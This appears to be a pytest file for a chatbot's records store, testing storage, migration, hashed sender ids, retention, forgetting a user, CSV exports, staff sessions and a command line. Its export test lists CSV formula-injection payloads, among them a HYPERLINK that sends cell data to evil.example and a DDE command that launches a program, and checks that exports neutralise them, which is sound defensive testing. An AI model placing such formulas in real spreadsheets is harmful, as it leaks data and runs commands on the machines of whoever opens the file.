"""The records in SQLite and in PostgreSQL: completed checks, unanswered questions and requests for a person,
the migration from schema version 1, hashed sender ids, retention, forgetting one user, exports (no cell a
spreadsheet would run), staff's sign-in sessions and staff's command line."""
import csv
import datetime as dt
import io
import json
import subprocess
import sys

import pytest
import sqlalchemy
from sqlalchemy import JSON, Column, DateTime, Float, Integer, MetaData, String, Table, insert, select

from bot.rules.engine import assess
from bot.rules.profile import make_profile
from records.checks import record_check, report
from records.cli import main as records_main
from bot.saying.spreadsheet import write_csv
from records.export import EXPORTS, check_rows, handoff_rows, unanswered_rows
from records.handoffs import record_handoff
from records.questions import record_question
from records.identity import HASH_KEY_VARIABLE, KEY_FILE_NAME, local_key, user_hash
from records.retention import forget, purge, retention
from records.review import record_flag
from records.sessions import SESSION_LIFETIME, close_session, open_session, session_is_open
from records.store import (PERSONAL_TABLES, questions, SCHEMA_VERSION, RecordsError, checks, connect, handoffs, schema_version,
                           staff_sessions, unanswered)
from records.unanswered import record_unanswered
from tests.services import postgres_database

DAY = dt.date(2015, 6, 1)
KEY = "k" * 40
PROFILES = [
    {"applicant": "company", "companies": 4, "smes": 1, "budget_nok": 500000},
    {"applicant": "company", "companies": 3, "smes": 1, "budget_nok": 200000},
    {"applicant": "cluster_organisation", "countries": ["NO"], "budget_nok": 150000},
]
SENDERS = ["slack:U0123ABC", "slack:U0123ABC", "webchat-5f1c9e"]


@pytest.fixture(autouse=True)
def hash_key(monkeypatch):
    monkeypatch.setenv(HASH_KEY_VARIABLE, KEY)


@pytest.fixture(params=["sqlite", "postgresql"])
def database_url(request, tmp_path):
    if request.param == "sqlite":
        yield f"sqlite:///{tmp_path / 'checks.db'}"
    else:
        with postgres_database() as url:
            yield url


def assessed(facts):
    return assess(make_profile(facts, date=DAY, language="nb"))


def record_all(url, when=None):
    engine = connect(url)
    for facts, sender in zip(PROFILES, SENDERS):
        record_check(engine, assessed(facts), "rest", sender, when)
    return engine


def everything_stored(engine) -> str:
    """Every row of every table of ours, as text."""
    with engine.connect() as connection:
        return json.dumps([[list(row) for row in connection.execute(select(table))] for table in PERSONAL_TABLES],
                          default=str, ensure_ascii=False)


# --- checks and staff's report --------------------------------------------------------------------------------

def test_a_check_is_stored_without_anything_but_the_projects_facts(database_url):
    engine = record_all(database_url)
    with engine.connect() as connection:
        row = connection.execute(select(checks).order_by(checks.c.id)).first()
    assert row.facts == PROFILES[0] and row.channel == "rest" and row.language == "nb"
    assert row.verdicts == {"innovasjonsrammen": "not_eligible", "innovation_express_2015": "not_eligible"}
    assert "innovasjonsrammen:half_are_smes" in row.failing
    assert set(checks.c.keys()) == {"id", "created_at", "channel", "language", "facts", "verdicts", "failing",
                                    "best_fit", "max_grant_nok", "budget_nok", "user_hash"}


def test_the_old_call_without_a_sender_still_records(database_url):
    engine = connect(database_url)
    record_check(engine, assessed(PROFILES[0]), "rest")  # as actions/replies.py calls it today
    with engine.connect() as connection:
        assert connection.execute(select(checks.c.user_hash)).scalar_one() is None


def test_the_report_counts_verdicts_failing_rules_budgets_and_users(database_url):
    result = report(record_all(database_url))
    assert result.checks == 3 and result.users == 2
    assert result.verdicts["innovasjonsrammen"] == {"not_eligible": 3}
    assert result.failing_rules[0] == ("innovasjonsrammen:half_are_smes", 2) or \
        result.failing_rules[0][1] == 3
    assert result.budget_summary() == {"count": 3, "min": 150000, "median": 200000, "max": 500000}


def test_the_report_can_start_at_a_date(database_url):
    engine = record_all(database_url, when=dt.datetime(2026, 1, 1, tzinfo=dt.timezone.utc))
    assert report(engine, since=dt.date(2026, 1, 2)).checks == 0
    assert report(engine, since=dt.date(2025, 12, 31)).checks == 3


def test_connecting_twice_keeps_the_data(database_url):
    record_all(database_url)
    assert report(connect(database_url)).checks == 3


# --- the migration from version 1 -----------------------------------------------------------------------------

def version_1_database(url):
    """The schema as version 1 made it (records/checks.py before version 2), with two checks in it."""
    old = MetaData()
    version = Table("klyngebot_schema", old, Column("version", Integer, nullable=False))
    old_checks = Table(
        "klyngebot_checks", old, Column("id", Integer, primary_key=True),
        Column("created_at", DateTime(timezone=True), nullable=False, index=True), Column("channel", String(32)),
        Column("language", String(2)), Column("facts", JSON, nullable=False), Column("verdicts", JSON, nullable=False),
        Column("failing", JSON, nullable=False), Column("best_fit", String(64)), Column("max_grant_nok", Integer),
        Column("budget_nok", Float))
    engine = sqlalchemy.create_engine(url, future=True)
    old.create_all(engine)
    with engine.begin() as connection:
        connection.execute(insert(version).values(version=1))
        for number in (1, 2):
            connection.execute(insert(old_checks).values(
                created_at=dt.datetime(2025, 3, number, tzinfo=dt.timezone.utc), channel="slack", language="en",
                facts={"companies": number}, verdicts={"innovasjonsrammen": "unknown"}, failing=[],
                budget_nok=100000.0 * number))
    engine.dispose()


def test_version_1_is_migrated_and_keeps_its_rows(database_url):
    version_1_database(database_url)
    engine = connect(database_url)
    with engine.connect() as connection:
        assert connection.execute(select(schema_version.c.version)).scalars().all() == [SCHEMA_VERSION] == [4]
        old_rows = connection.execute(select(checks).order_by(checks.c.id)).all()
        tables = set(sqlalchemy.inspect(connection).get_table_names())
        indexes = {index["name"] for index in sqlalchemy.inspect(connection).get_indexes(checks.name)}
    assert [(row.facts, row.budget_nok, row.user_hash) for row in old_rows] == [
        ({"companies": 1}, 100000, None), ({"companies": 2}, 200000, None)]
    assert {unanswered.name, handoffs.name, staff_sessions.name, questions.name} <= tables
    assert "ix_klyngebot_checks_user_hash" in indexes
    record_check(engine, assessed(PROFILES[0]), "rest", "slack:U1")  # and the new schema takes new rows
    record_unanswered(engine, "hva med skattefunn?", "nb", "slack", "slack:U1")
    assert report(connect(database_url)).checks == 3  # migrating again changes nothing


def test_a_database_newer_than_the_program_is_refused(database_url):
    engine = connect(database_url)
    with engine.begin() as connection:
        connection.execute(sqlalchemy.update(schema_version).values(version=SCHEMA_VERSION + 1))
    with pytest.raises(RecordsError, match="newer than this program"):
        connect(database_url)


# --- hashed sender ids ------------------------------------------------------------------------------------------

def test_a_sender_is_stored_as_a_keyed_hash_and_never_as_itself(database_url):
    engine = record_all(database_url)
    record_unanswered(engine, "kan vi søke om skattefunn?", "nb", "slack", "slack:U0123ABC")
    record_handoff(engine, "Kari Nordmann", "kari@example.no", "nb", "slack", "slack:U0123ABC", "maks tilskudd",
                   consent=True)
    record_question(engine, "deadline", "answered", "nb", "slack", "slack:U0123ABC")
    record_flag(engine, "said", "det stemmer ikke", "nb", "slack", "slack:U0123ABC")
    with engine.connect() as connection:
        hashes = [connection.execute(select(table.c.user_hash)).scalars().all() for table in PERSONAL_TABLES]
    expected = user_hash("slack:U0123ABC", KEY.encode())
    # a review is kept under the hash of a conversation Rasa stored: tests/integration/records/test_review.py
    assert hashes == [[expected, expected, user_hash("webchat-5f1c9e", KEY.encode())], [expected], [expected],
                      [expected], [expected], []]
    assert len(expected) == 64 and "U0123ABC" not in everything_stored(engine)


def test_the_same_sender_hashes_alike_and_another_key_hashes_differently():
    assert user_hash("slack:U0123ABC", b"a" * 32) == user_hash("slack:U0123ABC", b"a" * 32)
    assert user_hash("slack:U0123ABC", b"a" * 32) != user_hash("slack:U0123ABC", b"b" * 32)
    assert user_hash("slack:U0123ABC", b"a" * 32) != user_hash("slack:U0123ABD", b"a" * 32)


def test_a_local_database_gets_one_key_made_once_beside_it(tmp_path, monkeypatch):
    monkeypatch.delenv(HASH_KEY_VARIABLE)
    engine = connect(f"sqlite:///{tmp_path / 'local.db'}")
    record_check(engine, assessed(PROFILES[0]), "rest", "someone")
    key_file = tmp_path / KEY_FILE_NAME
    key = key_file.read_bytes()
    assert len(key) == 64 and oct(key_file.stat().st_mode & 0o777) == "0o600"
    local_key.cache_clear()
    record_check(connect(f"sqlite:///{tmp_path / 'local.db'}"), assessed(PROFILES[0]), "rest", "someone")
    with engine.connect() as connection:
        stored = connection.execute(select(checks.c.user_hash)).scalars().all()
    assert key_file.read_bytes() == key and stored == [user_hash("someone", key)] * 2


def test_a_shared_database_needs_the_key_configured(monkeypatch):
    monkeypatch.delenv(HASH_KEY_VARIABLE)
    with postgres_database() as url:
        with pytest.raises(RecordsError, match="KLYNGEBOT_HASH_KEY must be set"):
            record_unanswered(connect(url), "hei", "nb", "rest", "someone")


def test_a_short_key_is_refused(monkeypatch, tmp_path):
    monkeypatch.setenv(HASH_KEY_VARIABLE, "secret")
    with pytest.raises(RecordsError, match="shorter than 32"):
        record_unanswered(connect(f"sqlite:///{tmp_path / 'x.db'}"), "hei", "nb", "rest", "someone")


# --- unanswered questions and requests for a person ------------------------------------------------------------

def test_requests_for_a_person_keep_contact_details_only_with_consent(database_url):
    engine = connect(database_url)
    kept = record_handoff(engine, "Kari Nordmann", "kari@example.no", "nb", "webchat", "a", "maks tilskudd",
                          consent=True)
    refused = record_handoff(engine, "Ola", "ola@example.no", "en", "slack", "b", consent=False)
    assert (kept.name, kept.email, refused.name, refused.email, refused.consent) == (
        "Kari Nordmann", "kari@example.no", None, None, False)
    rows = handoff_rows(engine)
    assert rows[0] == ["created_at", "name", "email", "consent", "language", "channel", "topic", "status", "taken_by"]
    assert [row[1:] for row in rows[1:]] == [
        ["Kari Nordmann", "kari@example.no", True, "nb", "webchat", "maks tilskudd", "new", ""],
        ["", "", False, "en", "slack", "", "new", ""]]
    assert "Ola" not in everything_stored(engine)


# --- retention and forgetting ---------------------------------------------------------------------------------

NOW = dt.datetime(2026, 3, 1, 12, 0, tzinfo=dt.timezone.utc)


def rasa_events_store(url):
    """Rasa's own SQL tracker store on the same database, as deploy/rasa_config.py configures it. Skipped where
    Rasa is not installed: the Python 3.13 run of records/ (make test-py313), which Rasa 3.6 cannot join."""
    pytest.importorskip("rasa")
    from rasa.core.tracker_store import SQLTrackerStore
    from rasa.shared.core.domain import Domain
    parsed = sqlalchemy.engine.make_url(url)
    return SQLTrackerStore(Domain.empty(), dialect=parsed.drivername, host=parsed.host, port=parsed.port,
                           db=parsed.database, username=parsed.username)


def save_conversation(store, sender, moments):
    import asyncio
    from rasa.shared.core.events import UserUttered
    from rasa.shared.core.trackers import DialogueStateTracker
    tracker = DialogueStateTracker(sender, [])
    for number, moment in enumerate(moments):
        tracker.update(UserUttered(f"melding {number}", timestamp=moment.timestamp()))
    asyncio.run(store.save(tracker))


def test_purge_deletes_exactly_what_is_older_than_the_retention_rasas_events_included(database_url):
    engine = connect(database_url)
    old, edge, recent = NOW - dt.timedelta(days=91), NOW - dt.timedelta(days=90, seconds=-1), NOW - dt.timedelta(days=1)
    for moment in (old, edge, recent):
        record_check(engine, assessed(PROFILES[0]), "rest", "a", moment)
    record_unanswered(engine, "gammelt spørsmål", "nb", "rest", "a", old)
    record_unanswered(engine, "nytt spørsmål", "nb", "rest", "a", recent)
    record_handoff(engine, "Kari", "kari@example.no", "nb", "rest", "a", consent=True, when=old)
    record_question(engine, None, "not_placed", "nb", "rest", "a", old)
    save_conversation(rasa_events_store(database_url), "a", [old, old, edge, recent])
    deleted = purge(engine, dt.timedelta(days=90), NOW)
    assert deleted == {"checks": 1, "unanswered": 1, "handoffs": 1, "questions": 1, "flags": 0, "reviews": 0,
                       "events": 2}
    with engine.connect() as connection:
        kept_events = connection.execute(sqlalchemy.text("SELECT timestamp FROM events ORDER BY id")).scalars().all()
    assert kept_events == [edge.timestamp(), recent.timestamp()]
    assert [row[3] for row in unanswered_rows(engine)[1:]] == ["nytt spørsmål"]
    assert len(check_rows(engine)) == 1 + 2 and handoff_rows(engine)[1:] == []
    assert purge(engine, dt.timedelta(days=90), NOW) == {"checks": 0, "unanswered": 0, "handoffs": 0, "questions": 0,
                                                         "flags": 0, "reviews": 0, "events": 0}


def test_purge_without_rasas_table_deletes_the_records(database_url):
    engine = connect(database_url)
    record_unanswered(engine, "gammelt", "nb", "rest", "a", NOW - dt.timedelta(days=100))
    assert purge(engine, dt.timedelta(days=90), NOW)["unanswered"] == 1


def test_forget_deletes_one_senders_rows_and_no_one_elses(database_url):
    engine = record_all(database_url)
    for sender in ("slack:U0123ABC", "webchat-5f1c9e"):
        record_unanswered(engine, f"spørsmål fra {sender[-3:]}", "nb", "rest", sender)
        record_handoff(engine, "Navn", "e@example.no", "nb", "rest", sender, consent=True)
        record_question(engine, "max_grant", "answered", "nb", "rest", sender)
    assert forget(engine, "slack:U0123ABC") == {"checks": 2, "unanswered": 1, "handoffs": 1, "questions": 1, "flags": 0,
                                                "reviews": 0}
    with engine.connect() as connection:
        left = [connection.execute(select(table.c.user_hash)).scalars().all() for table in PERSONAL_TABLES]
    other = user_hash("webchat-5f1c9e", KEY.encode())
    assert left == [[other], [other], [other], [other], [], []]
    assert forget(engine, "slack:U0123ABC") == {"checks": 0, "unanswered": 0, "handoffs": 0, "questions": 0, "flags": 0,
                                                "reviews": 0}


@pytest.mark.parametrize("value, expected", [(None, 90), ("", 90), ("30", 30), (" 365 ", 365)])
def test_the_retention_is_read_from_the_environment(value, expected):
    environment = {} if value is None else {"KLYNGEBOT_RETENTION_DAYS": value}
    assert retention(environment) == dt.timedelta(days=expected)


@pytest.mark.parametrize("value", ["0", "-5", "ninety", "1.5"])
def test_a_bad_retention_is_refused(value):
    with pytest.raises(RecordsError, match="KLYNGEBOT_RETENTION_DAYS"):
        retention({"KLYNGEBOT_RETENTION_DAYS": value})


# --- exports a spreadsheet opens as text ---------------------------------------------------------------------

FORMULAS = ["=HYPERLINK(\"https://evil.example/?q=\"&A1,\"klikk\")", "@SUM(1+1)*cmd|' /C calc'!A0", "+47 22 00 00 00",
            "-2+3", "\tTAB=1", "\rCR=1"]


def test_every_export_makes_a_cell_that_begins_like_a_formula_text(tmp_path, records_cli):
    url = f"sqlite:///{tmp_path / 'checks.db'}"
    engine = connect(url)
    for text in FORMULAS:
        record_unanswered(engine, text, "nb", "webchat", "web-1")
        record_handoff(engine, text, "kari@example.no", "nb", "webchat", "web-1", text, consent=True)
    record_check(engine, assessed(PROFILES[0]), "rest", "someone")
    files = {}
    for kind in EXPORTS:
        code, files[kind], _ = records_cli(["export", kind, "--csv", "-"], url)
        assert code == 0
        output = io.StringIO()
        write_csv(EXPORTS[kind](engine), output)
        assert output.getvalue() == files[kind]  # the staff page's download is written the same way
    written = {kind: list(csv.DictReader(io.StringIO(text, newline=""))) for kind, text in files.items()}
    neutral = ["'" + text for text in FORMULAS]
    assert [row["text"] for row in written["unanswered"]] == neutral
    assert [(row["name"], row["topic"]) for row in written["handoffs"]] == list(zip(neutral, neutral))
    assert [row["email"] for row in written["handoffs"]] == ["kari@example.no"] * len(FORMULAS)  # the rest as kept
    assert written["checks"][0]["budget_nok"] == "500000.0" and json.loads(written["checks"][0]["facts"]) == PROFILES[0]


# --- staff's sign-in sessions --------------------------------------------------------------------------------

def test_a_session_is_open_until_it_is_closed_or_expires(database_url):
    engine = connect(database_url)
    now = dt.datetime(2026, 2, 3, 9, 0, tzinfo=dt.timezone.utc)
    first, second = open_session(engine, now), open_session(engine, now)
    assert first != second and len(first) >= 43  # 256 random bits
    assert session_is_open(engine, first, now) and session_is_open(engine, second, now)
    assert not session_is_open(engine, first + "x", now) and not session_is_open(engine, "", now)
    close_session(engine, first)
    assert not session_is_open(engine, first, now) and session_is_open(engine, second, now)
    ends = now + SESSION_LIFETIME
    assert session_is_open(engine, second, ends - dt.timedelta(seconds=1)) and not session_is_open(engine, second, ends)
    with engine.connect() as connection:
        stored = connection.execute(select(staff_sessions)).all()
    assert len(stored) == 1 and second not in json.dumps([list(row) for row in stored], default=str)
    open_session(engine, ends)  # a sign-in clears the sessions that have ended
    with engine.connect() as connection:
        assert connection.execute(select(sqlalchemy.func.count()).select_from(staff_sessions)).scalar() == 1


# --- staff's command line ---------------------------------------------------------------------------------------

def run_cli(arguments, url, **variables):
    """`python -m records` in its own process, as staff run it."""
    return subprocess.run([sys.executable, "-m", "records", *arguments], capture_output=True, text=True,
                          env={"DATABASE_URL": url, "PATH": "/usr/bin:/bin", HASH_KEY_VARIABLE: KEY, **variables},
                          timeout=60)


@pytest.fixture
def records_cli(monkeypatch, capsys):
    """The same command line in this process (quicker): (exit code, standard output, standard error)."""
    def run(arguments, url, **variables):
        monkeypatch.setenv("DATABASE_URL", url)
        monkeypatch.delenv("KLYNGEBOT_RETENTION_DAYS", raising=False)
        for name, value in variables.items():
            monkeypatch.setenv(name, value)
        code = records_main(arguments)
        captured = capsys.readouterr()
        return code, captured.out, captured.err
    return run


def test_the_report_command_prints_and_writes_csv(tmp_path):
    url = f"sqlite:///{tmp_path / 'checks.db'}"
    record_all(url)
    done = run_cli(["report", "--language", "en", "--csv", str(tmp_path / "report.csv")], url)
    assert done.returncode == 0, done.stderr
    assert done.stdout.splitlines()[0] == "Checks: 3, by 2 users"
    assert "  Innovasjonsrammen (the Innovation Framework): not eligible 3" in done.stdout  # in words, not ids
    assert "Innovasjonsrammen (the Innovation Framework): At least 50% of the participating companies are SMEs." \
        in done.stdout and "innovasjonsrammen" not in done.stdout and "_" not in done.stdout
    assert "Budgets asked about: 3 (lowest NOK 150,000, median NOK 200,000, highest NOK 500,000)" in done.stdout
    norwegian = run_cli(["report"], url).stdout
    assert norwegian.splitlines()[0] == "Vurderinger: 3, av 2 brukere"
    assert "Minst 50\u00a0% av de deltakende bedriftene er SMB-er." in norwegian
    rows = list(csv.reader(open(tmp_path / "report.csv", encoding="utf-8")))
    assert rows[0] == ["section", "key", "value"] and ["checks", "total", "3"] in rows and ["checks", "users", "2"] in rows


def test_the_purge_command_uses_the_retention_and_says_what_it_deleted(tmp_path, records_cli):
    url = f"sqlite:///{tmp_path / 'checks.db'}"
    now = dt.datetime.now(dt.timezone.utc)
    engine = connect(url)
    for age in (200, 40, 1):
        record_unanswered(engine, f"{age} dager gammelt", "nb", "rest", "a", now - dt.timedelta(days=age))
    code, out, _ = records_cli(["purge"], url, KLYNGEBOT_RETENTION_DAYS="60")
    assert code == 0 and "(60 days): 0 check(s), 1 unanswered question(s), 0 request(s) for a person, 0 flag(s), 0 review(s), " \
                         "0 conversation event(s)." in out
    code, out, _ = records_cli(["purge", "--days", "30"], url)
    assert code == 0 and "(30 days): 0 check(s), 1 unanswered question(s)" in out
    assert [row[3] for row in unanswered_rows(engine)[1:]] == ["1 dager gammelt"]


def test_the_export_command_writes_one_row_per_check(tmp_path, records_cli):
    url = f"sqlite:///{tmp_path / 'checks.db'}"
    record_all(url, when=dt.datetime(2026, 1, 5, 8, 30, tzinfo=dt.timezone.utc))
    code, out, _ = records_cli(["export", "checks", "--csv", str(tmp_path / "checks.csv")], url)
    assert code == 0 and out == f"3 checks row(s) written to {tmp_path / 'checks.csv'}\n"
    rows = list(csv.DictReader(open(tmp_path / "checks.csv", encoding="utf-8")))
    assert [json.loads(row["facts"]) for row in rows] == PROFILES
    assert rows[0]["created_at"] == "2026-01-05T08:30:00+00:00" and rows[0]["channel"] == "rest"
    assert rows[0]["verdict:innovasjonsrammen"] == "not_eligible" and rows[2]["budget_nok"] == "150000.0"
    assert "innovasjonsrammen:half_are_smes" in rows[0]["failing_rules"].split()
    assert "user_hash" not in rows[0]
    code, out, _ = records_cli(["export", "unanswered", "--csv", "-"], url)
    assert code == 0 and out == "created_at,language,channel,text\r\n"


@pytest.mark.parametrize("arguments, variables, expected", [
    (["report", "--since", "2026-02-30"], {}, "error: --since: "),
    (["report", "--csv", "/no/such/dir.csv"], {}, "error: cannot write"),
    (["purge", "--days", "0"], {}, "error: --days: 0 is not 1 or more"),
    (["purge", "--days", "many"], {}, "error: argument --days: invalid int value"),
    (["purge"], {"KLYNGEBOT_RETENTION_DAYS": "soon"}, "error: KLYNGEBOT_RETENTION_DAYS='soon' is not a whole number"),
    (["export", "people", "--csv", "-"], {}, "error: argument kind: invalid choice"),
    (["export", "checks"], {}, "error: the following arguments are required: --csv"),
])
def test_bad_input_is_refused_in_one_line(tmp_path, records_cli, arguments, variables, expected):
    code, out, err = records_cli(arguments, f"sqlite:///{tmp_path / 'checks.db'}", **variables)
    assert code == 2 and out == "" and err.startswith(expected) and err.count("\n") == 1, err


def test_an_unreachable_database_is_one_line(records_cli):
    for arguments in (["report"], ["purge"], ["export", "checks", "--csv", "-"]):
        code, _, err = records_cli(arguments, "postgresql://postgres@127.0.0.1:1/none")
        assert code == 2 and err.startswith("error: cannot use the records database") and err.count("\n") == 1
    done = run_cli(["report"], "postgresql://postgres@127.0.0.1:1/none")  # and as its own process: no traceback
    assert done.returncode == 2 and done.stderr.count("\n") == 1 and "Traceback" not in done.stderr
